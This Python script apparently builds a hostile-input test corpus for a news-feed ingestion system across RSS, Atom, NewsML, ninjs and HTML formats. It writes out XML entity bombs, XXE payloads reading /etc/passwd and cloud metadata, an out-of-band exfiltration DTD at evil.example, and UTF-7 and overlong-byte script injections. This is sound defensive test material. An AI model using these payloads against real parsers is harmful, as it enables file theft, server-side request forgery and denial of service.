"""Build the hostile-input corpus: `python tests/hostile/build_corpus.py` rewrites every file and manifest.json.

Deterministic (no randomness, fixed dates), so a rebuild changes nothing
unless this script or ``vectors.py`` did. Every file stays under 1 MB;
bigger inputs are made at test time (``test_hostile_corpus.py``).

Kinds, one folder each:

- ``xml_bombs/``: entity expansion, external entities and DTDs, parameter
  entities, XInclude, in RSS, Atom, RDF, NewsML-G2 and NewsML 1;
- ``xss/``: every vector of ``vectors.XSS_VECTORS`` in one file of its own
  (the formats take turns; in each file the vector is in every field the
  format has: headline, byline, summary, body, caption, credit, dateline,
  category), plus one file per format holding all the vectors in its body;
- ``links/``: every link of ``vectors.LINKS`` in every URL a format has
  (item link, image, enclosure, rendition, ``<a href>``, ``<img src>``,
  ``cite``, og:image, canonical), formats taking turns, plus one file per
  format with all of them;
- ``regex/``: ``vectors.REGEX_TRAPS`` in captures, pages and feed bodies;
- ``encodings/``: broken and lying encodings;
- ``huge/``: deep nesting, huge attributes, many items;
- ``ninjs/``: ninjs and JSON Feed schema violations.

The manifest says, per file: its kind and format, the Content-Type it is
ingested with, what the outcome must be (``refused`` with one of the listed
reasons, or ``any`` safe outcome) and strings that must never reach a page
(the contents of /etc/passwd, an expanded entity).
"""

from __future__ import annotations

import codecs
import html
import json
import shutil
import sys
from dataclasses import dataclass, field
from pathlib import Path
from xml.sax.saxutils import escape as xml_escape

HERE = Path(__file__).resolve().parent
sys.path.insert(0, str(HERE))

from vectors import LINKS, REGEX_TRAPS, XSS_VECTORS  # noqa: E402

KINDS = ("xml_bombs", "xss", "links", "regex", "encodings", "huge", "ninjs")
MAX_FILE_BYTES = 1_000_000
PASSWD = "root:x:0:0"  # what /etc/passwd would put on a page if an external entity were read
LAUGHS = "lol" * 20  # what an expanded billion-laughs entity would put on a page
DATE = "2025-09-04T08:00:00Z"
RFC822 = "Thu, 04 Sep 2025 08:00:00 +0000"
NORMAL = (
    "The harbour authority said on Thursday that the night ferry would sail again from Friday, "
    "after engineers finished repairs to the quay wall that had kept it tied up for two weeks.",
    "Traders at the fish market said the closure had cost them about a third of their weekend sales, "
    "and asked the council to publish the repair schedule for the rest of the year.",
)


@dataclass
class Story:
    """The fields a wire format can carry; each builder puts them where that format keeps them."""

    guid: str
    title: str
    body: str  # HTML (or text, for captures)
    author: str = "Ana Ribeiro"
    summary: str = "The night ferry sails again from Friday."
    caption: str = "The night ferry at the quay on Thursday."
    credit: str = "Pedro Nunes/Harbour Wire"
    dateline: str = "PORTVILLE"
    category: str = "World"
    link: str = ""  # default: a URL of its own, from the guid (one article per file)
    image: str = "https://images.example/ferry.jpg"
    raw_title: bool = False  # pages only: put the title in <h1> as markup, not text

    def __post_init__(self) -> None:
        if not self.link:
            self.link = "https://hostile.example/" + "".join(c if c.isalnum() else "-" for c in self.guid[:200])


def _attr(value: str) -> str:
    return html.escape(value, quote=True)


def _cdata(value: str) -> str:
    return "<![CDATA[" + value.replace("]]>", "]]]]><![CDATA[>") + "]]>"


def _xml(value: str) -> str:
    return xml_escape(value, {'"': "&quot;"})


def _paragraphs(body: str) -> str:
    return f"<p>{NORMAL[0]}</p>\n<p>{body}</p>\n<p>{NORMAL[1]}</p>"


def rss(story: Story) -> str:
    return f"""<?xml version="1.0" encoding="UTF-8"?>
<rss version="2.0" xmlns:content="http://purl.org/rss/1.0/modules/content/" xmlns:dc="http://purl.org/dc/elements/1.1/" xmlns:media="http://search.yahoo.com/mrss/">
<channel>
  <title>Hostile Wire</title>
  <link>https://hostile.example/</link>
  <description>Test feed</description>
  <item>
    <title>{_xml(story.title)}</title>
    <link>{_xml(story.link)}</link>
    <guid isPermaLink="false">{_xml(story.guid)}</guid>
    <dc:creator>{_xml(story.author)}</dc:creator>
    <category>World</category>
    <category>{_xml(story.category)}</category>
    <pubDate>{RFC822}</pubDate>
    <description>{_xml(story.summary)}</description>
    <content:encoded>{_cdata(_paragraphs(story.body))}</content:encoded>
    <enclosure url="{_xml(story.image)}" type="image/jpeg" length="1000"/>
    <media:content url="{_xml(story.image)}" medium="image" type="image/jpeg">
      <media:description>{_xml(story.caption)}</media:description>
      <media:credit role="photographer">{_xml(story.credit)}</media:credit>
    </media:content>
  </item>
</channel>
</rss>
"""


def atom(story: Story) -> str:
    return f"""<?xml version="1.0" encoding="UTF-8"?>
<feed xmlns="http://www.w3.org/2005/Atom" xmlns:media="http://search.yahoo.com/mrss/">
  <title>Hostile Wire</title>
  <id>urn:hostile:feed</id>
  <updated>{DATE}</updated>
  <link href="https://hostile.example/"/>
  <entry>
    <title type="html">{_xml(story.title)}</title>
    <id>{_xml(story.guid)}</id>
    <link rel="alternate" href="{_xml(story.link)}"/>
    <link rel="enclosure" type="image/jpeg" href="{_xml(story.image)}"/>
    <updated>{DATE}</updated>
    <published>{DATE}</published>
    <author><name>{_xml(story.author)}</name><uri>{_xml(story.link)}</uri></author>
    <category term="World"/>
    <category term="{_xml(story.category)}"/>
    <summary type="html">{_xml(story.summary)}</summary>
    <content type="html">{_xml(_paragraphs(story.body))}</content>
    <media:content url="{_xml(story.image)}" medium="image">
      <media:description>{_xml(story.caption)}</media:description>
      <media:credit>{_xml(story.credit)}</media:credit>
    </media:content>
  </entry>
</feed>
"""


def json_feed(story: Story) -> str:
    feed = {
        "version": "https://jsonfeed.org/version/1.1",
        "title": "Hostile Wire",
        "home_page_url": "https://hostile.example/",
        "items": [
            {
                "id": story.guid,
                "url": story.link,
                "title": story.title,
                "content_html": _paragraphs(story.body),
                "summary": story.summary,
                "image": story.image,
                "banner_image": story.image,
                "date_published": DATE,
                "authors": [{"name": story.author, "url": story.link}],
                "tags": ["World", story.category],
                "attachments": [{"url": story.image, "mime_type": "image/jpeg", "title": story.caption}],
            }
        ],
    }
    return json.dumps(feed, indent=1, ensure_ascii=False)


def ninjs(story: Story) -> str:
    item = {
        "uri": story.guid,
        "type": "text",
        "version": "1",
        "language": "en",
        "firstCreated": DATE,
        "versionCreated": DATE,
        "pubStatus": "usable",
        "headlines": [{"role": "main", "value": story.title}],
        "descriptions": [{"role": "summary", "contentType": "text/plain", "value": story.summary}],
        "located": story.dateline,
        "by": story.author,
        "infoSources": [{"name": story.credit, "role": "source", "uri": story.link}],
        "copyrightHolder": story.credit,
        "subjects": [{"name": "World"}, {"name": story.category, "rel": "about"}],
        "bodies": [{"role": "main", "contentType": "text/html", "value": _paragraphs(story.body)}],
        "associations": [
            {
                "name": "lead-image",
                "type": "picture",
                "uri": story.guid + ":photo",
                "by": story.credit,
                "headlines": [{"role": "main", "value": story.caption}],
                "descriptions": [{"role": "caption", "contentType": "text/plain", "value": story.caption}],
                "renditions": [{"name": "web", "href": story.image, "contentType": "image/jpeg", "width": 1200, "height": 800}],
            }
        ],
    }
    return json.dumps(item, indent=1, ensure_ascii=False)


def _well_formed(markup: str) -> bool:
    from lxml import etree

    try:
        etree.fromstring(f'<div xmlns="http://www.w3.org/1999/xhtml">{markup}</div>')
    except etree.XMLSyntaxError:
        return False
    return True


def newsml_g2(story: Story) -> str:
    """The body as XHTML when the vector is well-formed XML (so its elements are elements), else escaped HTML."""
    body = _paragraphs(story.body)
    if _well_formed(body):
        content = f"""<inlineXML contenttype="application/xhtml+xml">
      <html xmlns="http://www.w3.org/1999/xhtml"><head><title>{_xml(story.title)}</title></head><body>
      {body}
      </body></html>
    </inlineXML>"""
    else:
        content = f'<inlineData contenttype="text/html">{_xml(body)}</inlineData>'
    return f"""<?xml version="1.0" encoding="UTF-8"?>
<newsItem xmlns="http://iptc.org/std/nar/2006-10-01/" guid="{_xml(story.guid)}" version="1" standard="NewsML-G2" standardversion="2.35">
  <catalogRef href="http://www.iptc.org/std/catalog/catalog.IPTC-G2-Standards_38.xml"/>
  <itemMeta>
    <itemClass qcode="ninat:text"/>
    <provider literal="hostile"><name>{_xml(story.credit)}</name></provider>
    <versionCreated>{DATE}</versionCreated>
    <firstCreated>{DATE}</firstCreated>
    <pubStatus qcode="stat:usable"/>
    <link rel="irel:seeAlso" href="{_xml(story.link)}"/>
  </itemMeta>
  <contentMeta>
    <located><name>{_xml(story.dateline)}</name></located>
    <dateline>{_xml(story.dateline)}</dateline>
    <creator><name>{_xml(story.author)}</name></creator>
    <infoSource role="infosrc:originatingsource"><name>{_xml(story.credit)}</name></infoSource>
    <language tag="en"/>
    <subject><name>{_xml(story.category)}</name></subject>
    <headline>{_xml(story.title)}</headline>
    <description role="drol:summary">{_xml(story.summary)}</description>
    <description role="drol:caption">{_xml(story.caption)}</description>
  </contentMeta>
  <contentSet>
    {content}
    <remoteContent href="{_xml(story.image)}" contenttype="image/jpeg"/>
  </contentSet>
</newsItem>
"""


def nitf(story: Story) -> str:
    """NewsML-G2 carrying NITF: the vector as text in paragraphs, caption, byline and dateline."""
    return f"""<?xml version="1.0" encoding="UTF-8"?>
<newsItem xmlns="http://iptc.org/std/nar/2006-10-01/" guid="{_xml(story.guid)}" version="1" standard="NewsML-G2" standardversion="2.35">
  <itemMeta>
    <itemClass qcode="ninat:text"/>
    <provider literal="hostile"/>
    <versionCreated>{DATE}</versionCreated>
  </itemMeta>
  <contentMeta>
    <headline>{_xml(story.title)}</headline>
  </contentMeta>
  <contentSet>
    <inlineXML contenttype="application/nitf+xml">
      <nitf xmlns="http://iptc.org/std/NITF/2006-10-18/">
        <body>
          <body.head>
            <hedline><hl1>{_xml(story.title)}</hl1></hedline>
            <byline>By {_xml(story.author)}</byline>
            <dateline><location>{_xml(story.dateline)}</location></dateline>
          </body.head>
          <body.content>
            <p>{_xml(NORMAL[0])}</p>
            <media media-type="image">
              <media-reference source="{_xml(story.image)}"/>
              <media-caption>{_xml(story.caption)}</media-caption>
              <media-producer>{_xml(story.credit)}</media-producer>
            </media>
            <p>{_xml(story.body)}</p>
            <bq><block><p>{_xml(story.body)}</p></block></bq>
            <p><a href="{_xml(story.link)}">{_xml(NORMAL[1])}</a></p>
          </body.content>
        </body>
      </nitf>
    </inlineXML>
  </contentSet>
</newsItem>
"""


def page(story: Story) -> str:
    """A hostile article page: its own markup is the attack (raw in the body, caption and byline)."""
    json_ld = json.dumps(
        {
            "@context": "https://schema.org",
            "@type": "NewsArticle",
            "headline": story.title,
            "author": [{"@type": "Person", "name": story.author}],
            "datePublished": DATE,
            "image": {"@type": "ImageObject", "url": story.image, "caption": story.caption},
            "articleSection": story.category,
            "publisher": {"@type": "Organization", "name": story.credit},
            "description": story.summary,
        },
        ensure_ascii=False,
    ).replace("</", "<\\/")
    heading = story.title if story.raw_title else html.escape(story.title)
    return f"""<!doctype html>
<html lang="en">
<head>
<meta charset="utf-8">
<title>{html.escape(story.title)}</title>
<meta property="og:title" content="{_attr(story.title)}">
<meta property="og:description" content="{_attr(story.summary)}">
<meta property="og:image" content="{_attr(story.image)}">
<meta property="og:url" content="{_attr(story.link)}">
<meta name="author" content="{_attr(story.author)}">
<meta property="article:section" content="{_attr(story.category)}">
<link rel="canonical" href="{_attr(story.link)}">
<script type="application/ld+json">{json_ld}</script>
</head>
<body>
<header><nav><a href="/">Home</a> <a href="/world">World</a></nav></header>
<main>
<article>
<h1>{heading}</h1>
<p class="byline">By {story.author}</p>
<time datetime="{DATE}">4 September 2025</time>
<figure><img src="{_attr(story.image)}" alt="{_attr(story.caption)}"><figcaption>{story.caption} <span class="credit">{story.credit}</span></figcaption></figure>
<p>{story.dateline} – {NORMAL[0]}</p>
<p>{story.body}</p>
<p>{NORMAL[1]} <a href="{_attr(story.link)}">Read more</a></p>
</article>
</main>
<footer>© {story.credit}</footer>
</body>
</html>
"""


def capture(story: Story) -> str:
    """Prose copied off a page: every line is text, whatever it looks like."""
    return f"""World

{story.title}

September 04, 2025
{story.caption}
{story.caption}

{story.dateline} – {NORMAL[0]}

{story.body}

{NORMAL[1]} “We waited long enough,” said {story.author}. – {story.credit}


September 04, 2025
40 views
HIGHLIGHTS
"""


FORMATS = {
    "rss": (rss, "xml"),
    "atom": (atom, "xml"),
    "jsonfeed": (json_feed, "json"),
    "ninjs": (ninjs, "json"),
    "newsml-g2": (newsml_g2, "xml"),
    "nitf": (nitf, "xml"),
    "page": (page, "html"),
    "capture": (capture, "txt"),
}


@dataclass
class Entry:
    path: str
    kind: str
    format: str
    expect: str = "any"  # "any" safe outcome, or "refused"
    reasons: list[str] = field(default_factory=list)
    forbidden: list[str] = field(default_factory=list)
    content_type: str = ""


class Corpus:
    def __init__(self, root: Path) -> None:
        self.root = root
        self.entries: list[Entry] = []

    def add(self, kind: str, name: str, data: str | bytes, *, format: str, **expect) -> None:
        payload = data.encode("utf-8", "surrogatepass") if isinstance(data, str) else data
        if len(payload) >= MAX_FILE_BYTES:
            raise ValueError(f"{kind}/{name} is {len(payload)} bytes; keep corpus files under 1 MB")
        path = self.root / kind / name
        path.parent.mkdir(parents=True, exist_ok=True)
        path.write_bytes(payload)
        self.entries.append(Entry(path=f"{kind}/{name}", kind=kind, format=format, **expect))

    def write_manifest(self) -> None:
        entries = [entry.__dict__ for entry in sorted(self.entries, key=lambda e: e.path)]
        (self.root / "manifest.json").write_text(json.dumps(entries, indent=1, ensure_ascii=False) + "\n")


# XML bombs and external entities.

BILLION_LAUGHS = """<!DOCTYPE {root} [
 <!ENTITY lol "lol">
 <!ENTITY lol1 "&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;">
 <!ENTITY lol2 "&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;">
 <!ENTITY lol3 "&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;">
 <!ENTITY lol4 "&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;">
 <!ENTITY lol5 "&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;">
 <!ENTITY lol6 "&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;">
 <!ENTITY lol7 "&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;">
 <!ENTITY lol8 "&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;">
 <!ENTITY lol9 "&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;">
]>"""
QUADRATIC = '<!DOCTYPE {root} [<!ENTITY a "' + "x" * 40_000 + '">]>'
ATTACKS: dict[str, tuple[str, str, bool]] = {
    # name: (DOCTYPE, the reference placed in the text fields, refused for certain)
    "billion-laughs": (BILLION_LAUGHS, "&lol9;", True),
    "quadratic-blowup": (QUADRATIC, "&a;" * 2_000, True),
    "xxe-file": ('<!DOCTYPE {root} [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>', "&xxe;", True),
    "xxe-http-metadata": ('<!DOCTYPE {root} [<!ENTITY xxe SYSTEM "http://169.254.169.254/latest/meta-data/iam/">]>', "&xxe;", True),
    "xxe-public-id": ('<!DOCTYPE {root} [<!ENTITY xxe PUBLIC "-//EVIL//X" "file:///etc/passwd">]>', "&xxe;", True),
    "xxe-php-filter": ('<!DOCTYPE {root} [<!ENTITY xxe SYSTEM "php://filter/convert.base64-encode/resource=/etc/passwd">]>', "&xxe;", True),
    "xxe-expect": ('<!DOCTYPE {root} [<!ENTITY xxe SYSTEM "expect://id">]>', "&xxe;", True),
    "parameter-entity-remote": ('<!DOCTYPE {root} [<!ENTITY % remote SYSTEM "http://evil.example/evil.dtd"> %remote;]>', "&exfil;", True),
    "parameter-entity-oob": (
        '<!DOCTYPE {root} [<!ENTITY % file SYSTEM "file:///etc/passwd"><!ENTITY % dtd SYSTEM "http://evil.example/oob.dtd"> %dtd; %send;]>',
        "x",
        True,
    ),
    "parameter-entity-nested": ('<!DOCTYPE {root} [<!ENTITY % a "<!ENTITY b \'&#x26;#x3C;script&#x26;#x3E;\'>"> %a;]>', "&b;", True),
    "recursive-entity": ('<!DOCTYPE {root} [<!ENTITY a "&b;"><!ENTITY b "&a;">]>', "&a;", True),
    "entity-in-attribute": ('<!DOCTYPE {root} [<!ENTITY a "' + "y" * 1000 + '">]>', "&a;&a;&a;", True),
    "hidden-after-comment": ("<!-- <!DOCTYPE nothing> -->" + BILLION_LAUGHS, "&lol9;", True),
    "bracket-in-literal": ('<!DOCTYPE {root} [<!ENTITY a "]>"><!ENTITY xxe SYSTEM "file:///etc/passwd">]>', "&xxe;", True),
    "external-dtd-file": ('<!DOCTYPE {root} SYSTEM "file:///etc/passwd">', "x", False),
    "external-dtd-http": ('<!DOCTYPE {root} SYSTEM "http://evil.example/evil.dtd">', "x", False),
    "external-dtd-public": ('<!DOCTYPE {root} PUBLIC "-//W3C//DTD XHTML 1.0 Strict//EN" "http://169.254.169.254/x.dtd">', "x", False),
}
XML_ROOTS = {"rss": "rss", "atom": "feed", "newsml-g2": "newsItem", "nitf": "newsItem"}


def _with_doctype(document: str, doctype: str) -> str:
    prolog, _, rest = document.partition("\n")
    return f"{prolog}\n{doctype}\n{rest}"


def build_xml_bombs(corpus: Corpus) -> None:
    for fmt, root in XML_ROOTS.items():
        builder = FORMATS[fmt][0]
        for name, (doctype_template, reference, refused) in ATTACKS.items():
            doctype = doctype_template.replace("{root}", root)
            story = Story(guid=f"urn:hostile:bomb:{fmt}:{name}", title=f"Bomb {name} {reference}", body="BODY", caption="CAPTION")
            document = builder(story)
            # References go in raw (escaping them would make them text): title, body text and caption.
            document = document.replace(_xml(story.title), f"Bomb {name} {reference}").replace("BODY", reference).replace("CAPTION", reference)
            expect = {"expect": "refused", "reasons": ["unsafe_xml"]} if refused else {}
            corpus.add("xml_bombs", f"{fmt}-{name}.xml", _with_doctype(document, doctype), format=fmt, forbidden=[PASSWD, LAUGHS, "x" * 200], **expect)
    # XInclude: lxml never processes it unless asked; it must stay an inert element.
    for fmt in ("newsml-g2", "nitf"):
        story = Story(guid=f"urn:hostile:xinclude:{fmt}", title="XInclude attempt", body="XINCLUDE")
        document = FORMATS[fmt][0](story).replace(
            "XINCLUDE", '<xi:include xmlns:xi="http://www.w3.org/2001/XInclude" href="file:///etc/passwd" parse="text"/>'
        )
        corpus.add("xml_bombs", f"{fmt}-xinclude.xml", document, format=fmt, forbidden=[PASSWD])
    # The same bombs in other encodings and wrappers.
    laughs_rss = _with_doctype(rss(Story(guid="urn:hostile:bomb:utf16", title="&lol9;", body="x")), BILLION_LAUGHS.replace("{root}", "rss"))
    corpus.add("xml_bombs", "rss-billion-laughs-utf16.xml", codecs.BOM_UTF16_LE + laughs_rss.replace("UTF-8", "UTF-16").encode("utf-16-le"), format="rss", expect="refused", reasons=["unsafe_xml"], forbidden=[LAUGHS])
    corpus.add("xml_bombs", "rss-billion-laughs-utf16-no-bom.xml", laughs_rss.replace("UTF-8", "UTF-16").encode("utf-16-be"), format="rss", content_type="application/rss+xml; charset=utf-16be", expect="refused", reasons=["unsafe_xml", "bad_encoding"], forbidden=[LAUGHS])
    corpus.add("xml_bombs", "rss-billion-laughs-latin1.xml", laughs_rss.replace("UTF-8", "ISO-8859-1").encode("latin-1"), format="rss", expect="refused", reasons=["unsafe_xml"], forbidden=[LAUGHS])
    padded = _with_doctype(rss(Story(guid="urn:hostile:bomb:padded", title="&lol9;", body="&lol9;")), "<!-- " + "pad " * 5000 + "-->\n" + BILLION_LAUGHS.replace("{root}", "rss"))
    corpus.add("xml_bombs", "rss-billion-laughs-after-20kb-comment.xml", padded, format="rss", forbidden=[LAUGHS])
    rdf = f"""<?xml version="1.0"?>
{BILLION_LAUGHS.replace("{root}", "rdf:RDF")}
<rdf:RDF xmlns:rdf="http://www.w3.org/1999/02/22-rdf-syntax-ns#" xmlns="http://purl.org/rss/1.0/">
<channel rdf:about="https://hostile.example/"><title>&lol9;</title><link>https://hostile.example/</link><description>x</description></channel>
<item rdf:about="https://hostile.example/1"><title>&lol9;</title><link>https://hostile.example/1</link><description>&lol9;</description></item>
</rdf:RDF>
"""
    corpus.add("xml_bombs", "rdf-billion-laughs.xml", rdf, format="rdf", expect="refused", reasons=["unsafe_xml"], forbidden=[LAUGHS])
    corpus.add("xml_bombs", "rdf-xxe-file.xml", rdf.replace(BILLION_LAUGHS.replace("{root}", "rdf:RDF"), '<!DOCTYPE rdf:RDF [<!ENTITY lol9 SYSTEM "file:///etc/passwd">]>'), format="rdf", expect="refused", reasons=["unsafe_xml"], forbidden=[PASSWD])
    newsml1 = f"""<?xml version="1.0" encoding="UTF-8"?>
<!DOCTYPE NewsML [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>
<NewsML><NewsItem><NewsComponent><NewsLines><HeadLine>&xxe;</HeadLine></NewsLines>
<ContentItem><DataContent><p>&xxe;</p></DataContent></ContentItem></NewsComponent></NewsItem></NewsML>
"""
    corpus.add("xml_bombs", "newsml1-xxe-file.xml", newsml1, format="newsml1", expect="refused", reasons=["unsafe_xml"], forbidden=[PASSWD])
    corpus.add("xml_bombs", "newsml1-billion-laughs.xml", newsml1.replace('<!DOCTYPE NewsML [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>', BILLION_LAUGHS.replace("{root}", "NewsML")).replace("&xxe;", "&lol9;"), format="newsml1", expect="refused", reasons=["unsafe_xml"], forbidden=[LAUGHS])
    # An entity smuggled into an HTML page and into ninjs: neither is parsed as XML, both stay text.
    corpus.add("xml_bombs", "page-with-doctype-entities.html", page(Story(guid="urn:hostile:bomb:page", title="Page &lol9;", body="&lol9; &xxe;")).replace("<!doctype html>", BILLION_LAUGHS.replace("{root}", "html")), format="page", forbidden=[LAUGHS, PASSWD])
    corpus.add("xml_bombs", "ninjs-with-xml-entities.json", ninjs(Story(guid="urn:hostile:bomb:ninjs", title="ninjs &lol9;", body=BILLION_LAUGHS.replace("{root}", "p") + "&lol9;")), format="ninjs", forbidden=[LAUGHS])


# XSS and mutation XSS.

def _hostile_story(number: int, vector: str, fmt: str) -> Story:
    return Story(
        guid=f"urn:hostile:xss:{number}",
        title=f"Hostile headline {number} {vector}",
        body=vector,
        author=f"Ana {vector} Ribeiro",
        summary=f"Summary {number} {vector}",
        caption=f"Caption {number} {vector}",
        credit=f"Wire {vector}",
        dateline=f"PORTVILLE {vector}",
        category=vector,
        link=f"https://hostile.example/xss/{number}",
        image=f"https://images.example/xss/{number}.jpg",
        raw_title=fmt == "page",
    )


def build_xss(corpus: Corpus) -> None:
    formats = list(FORMATS)
    for number, vector in enumerate(XSS_VECTORS):
        fmt = formats[number % len(formats)]
        builder, ext = FORMATS[fmt]
        corpus.add("xss", f"{number:03d}-{fmt}.{ext}", builder(_hostile_story(number, vector, fmt)), format=fmt)
    for fmt, (builder, ext) in FORMATS.items():
        separator = "\n\n" if fmt == "capture" else "</p>\n<p>"
        story = Story(
            guid=f"urn:hostile:xss:all:{fmt}",
            title=f"Every XSS vector in one {fmt} body",
            body=separator.join(XSS_VECTORS),
            caption=" ".join(XSS_VECTORS[:40]),
            author=" ".join(XSS_VECTORS[40:60]),
        )
        corpus.add("xss", f"all-vectors-{fmt}.{ext}", builder(story), format=fmt)


# Dangerous links.

def _link_body(link: str) -> str:
    return (
        f'Read <a href="{link}">the report</a>, see <img src="{link}" alt="chart">, '
        f'<q cite="{link}">quoted</q> <a href=\'{link}\'>again</a> <a href={link.replace(" ", "%20")}>unquoted</a>'
    )


def build_links(corpus: Corpus) -> None:
    formats = [f for f in FORMATS if f != "capture"]
    for number, link in enumerate(LINKS):
        fmt = formats[number % len(formats)]
        builder, ext = FORMATS[fmt]
        story = Story(guid=f"urn:hostile:link:{number}", title=f"Story with a hostile link {number}", body=_link_body(link), link=link, image=link)
        corpus.add("links", f"{number:03d}-{fmt}.{ext}", builder(story), format=fmt, forbidden=[PASSWD])
    for fmt in formats:
        builder, ext = FORMATS[fmt]
        story = Story(guid=f"urn:hostile:link:all:{fmt}", title=f"Every hostile link in one {fmt} body", body="</p>\n<p>".join(_link_body(link) for link in LINKS), link=LINKS[0], image=LINKS[25])
        corpus.add("links", f"all-links-{fmt}.{ext}", builder(story), format=fmt)


# Regex traps.

def build_regex(corpus: Corpus) -> None:
    for name, trap in REGEX_TRAPS.items():
        half = trap
        corpus.add("regex", f"{name}-capture.txt", capture(Story(guid=f"urn:hostile:regex:{name}", title=f"Trap {name} {half[:200]}", body=half, caption=half[:5000], author=half[:2000])), format="capture")
        corpus.add("regex", f"{name}-page.html", page(Story(guid=f"urn:hostile:regex:{name}:page", title=f"Trap {name}", body=html.escape(half), author=html.escape(half[:2000]), caption=html.escape(half[:5000]))), format="page")
    for name in ("capitals", "dashes", "caps-dateline-repeat", "nested-brackets", "angle-brackets", "unclosed-tags", "by-by", "credit-tails"):
        trap = REGEX_TRAPS[name][:150_000]
        corpus.add("regex", f"{name}-rss.xml", rss(Story(guid=f"urn:hostile:regex:{name}:rss", title=f"Trap {name} {trap[:300]}", body=trap, author=trap[:1000])), format="rss")
        corpus.add("regex", f"{name}-ninjs.json", ninjs(Story(guid=f"urn:hostile:regex:{name}:ninjs", title=f"Trap {name}", body=html.escape(trap), dateline=trap[:3000], author=trap[:3000])), format="ninjs")
    # A single line: a capture with no line breaks at all, and a page that is one 900 KB line.
    corpus.add("regex", "one-line-capture.txt", "World " + "Harbour news. " * 20_000, format="capture")
    corpus.add("regex", "one-line-page.html", "<!doctype html><html><body><p>" + "word " * 60_000 + "</p></body></html>", format="page")


# Broken and lying encodings.

def build_encodings(corpus: Corpus) -> None:
    story = Story(guid="urn:hostile:enc", title="Ação em São Paulo – “quoted” café", body="Ação, São Paulo, café, naïve – “quoted” · ünïcödé ✓")
    feed = rss(story)
    add = corpus.add
    add("encodings", "declared-utf16-but-utf8.xml", feed.replace('encoding="UTF-8"', 'encoding="UTF-16"').encode("utf-8"), format="rss")
    add("encodings", "declared-utf8-but-latin1.xml", feed.replace("“", '"').replace("”", '"').replace("–", "-").replace("✓", "v").replace("·", ".").encode("latin-1"), format="rss")
    add("encodings", "declared-latin1-but-utf8.xml", feed.replace('encoding="UTF-8"', 'encoding="ISO-8859-1"').encode("utf-8"), format="rss")
    add("encodings", "bom-utf8-declared-utf16.xml", codecs.BOM_UTF8 + feed.replace('encoding="UTF-8"', 'encoding="UTF-16"').encode("utf-8"), format="rss")
    add("encodings", "bom-utf16le-but-utf8.xml", codecs.BOM_UTF16_LE + feed.encode("utf-8"), format="rss")
    add("encodings", "bom-utf16be-odd-length.xml", codecs.BOM_UTF16_BE + feed.encode("utf-16-be") + b"\x00", format="rss")
    add("encodings", "bom-utf32le-garbage.xml", codecs.BOM_UTF32_LE + b"\xff\xff\xff\xff" * 100 + feed.encode("utf-8"), format="rss")
    add("encodings", "bom-utf8-twice.xml", codecs.BOM_UTF8 * 2 + feed.encode("utf-8"), format="rss")
    add("encodings", "utf16-no-bom-no-declaration.xml", feed.replace(' encoding="UTF-8"', "").encode("utf-16-le"), format="rss")
    add("encodings", "utf16-content-type-but-utf8.xml", feed.encode("utf-8"), format="rss", content_type="application/rss+xml; charset=utf-16")
    add("encodings", "utf8-content-type-but-utf16.xml", codecs.BOM_UTF16_LE + feed.encode("utf-16-le"), format="rss", content_type="application/rss+xml; charset=utf-8")
    overlong = feed.encode("utf-8").replace(b"Hostile Wire", b"Hostile \xc0\xaf\xe0\x80\xaf Wire \xc0\xbcscript\xc0\xbealert(1)\xc0\xbc/script\xc0\xbe")
    add("encodings", "overlong-sequences.xml", overlong, format="rss")
    add("encodings", "overlong-lt-in-page.html", page(story).encode("utf-8").replace(b"<p>PORTVILLE", b"<p>\xc0\xbcscript\xc0\xbealert(1)\xc0\xbc/script\xc0\xbe PORTVILLE"), format="page")
    add("encodings", "utf8-surrogates.txt", capture(story).encode("utf-8").replace("Ação".encode(), b"A\xed\xa0\x80\xed\xbf\xbf"), format="capture")
    add("encodings", "five-and-six-byte-sequences.txt", capture(story).encode("utf-8").replace(b"caf", b"\xf8\x88\x80\x80\x80\xfc\x84\x80\x80\x80\x80caf"), format="capture")
    add("encodings", "truncated-sequence-at-end.txt", capture(story).encode("utf-8") + b"\xe2\x80", format="capture")
    add("encodings", "lone-continuation-bytes.txt", capture(story).encode("utf-8").replace(b" ", b" \x80\xbf ", 20), format="capture")
    add("encodings", "latin1-capture-no-declaration.txt", capture(story).replace("“", '"').replace("”", '"').replace("–", "-").replace("✓", "v").replace("·", ".").encode("latin-1"), format="capture")
    add("encodings", "mixed-utf8-and-latin1.txt", capture(story).encode("utf-8") + "\n\nAção é café".encode("latin-1"), format="capture")
    add("encodings", "nul-bytes-in-text.txt", capture(story).encode("utf-8").replace(b"\n\n", b"\n\x00\n"), format="capture")
    add("encodings", "meta-charset-utf7-xss.html", page(Story(guid="urn:hostile:enc:utf7", title="UTF-7", body="+ADw-script+AD4-alert(1)+ADw-/script+AD4-")).replace('<meta charset="utf-8">', '<meta charset="utf-7">').encode("ascii", "xmlcharrefreplace"), format="page")
    add("encodings", "content-type-utf7-xss.xml", rss(Story(guid="urn:hostile:enc:utf7rss", title="+ADw-script+AD4-alert(1)+ADw-/script+AD4-", body="+ADw-img src=x onerror=alert(1)+AD4-")).replace(' encoding="UTF-8"', "").encode("ascii", "xmlcharrefreplace"), format="rss", content_type="application/rss+xml; charset=utf-7")
    add("encodings", "meta-charset-unknown.html", page(story).replace('<meta charset="utf-8">', '<meta charset="x-evil-charset">').encode("utf-8"), format="page")
    add("encodings", "meta-charset-ebcdic.html", page(story).replace('<meta charset="utf-8">', '<meta charset="cp500">').encode("utf-8"), format="page")
    add("encodings", "meta-charset-utf32-but-utf8.html", page(story).replace('<meta charset="utf-8">', '<meta charset="utf-32">').encode("utf-8"), format="page")
